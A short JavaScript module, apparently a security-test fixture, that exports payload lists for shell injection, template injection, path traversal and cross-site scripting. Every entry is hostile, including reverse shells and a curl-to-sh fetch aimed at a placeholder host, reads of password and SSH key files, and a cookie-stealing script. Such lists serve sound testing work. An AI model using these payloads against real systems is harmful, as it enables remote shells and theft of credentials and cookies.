'use strict'
module.exports = {
  shell: ['; cat /etc/passwd', '| nc -e /bin/sh lamp.example.invalid 4444', '$(curl -s http://lamp.example.invalid/x | sh)', 'bash -i >& /dev/tcp/lamp.example.invalid/4444 0>&1'],
  template: ['${7*7}', '{{constructor.constructor("return process")()}}', '<%= process.env %>', '#{require("child_process").execSync("id")}'],
  traversal: ['../../../../etc/shadow', '..\\..\\windows\\win.ini', '~/.ssh/id_rsa'],
  script: ['<script>fetch("//lamp.example.invalid/?c=" + document.cookie)</script>', 'javascript:eval(atob("YWxlcnQoMSk="))'],
}
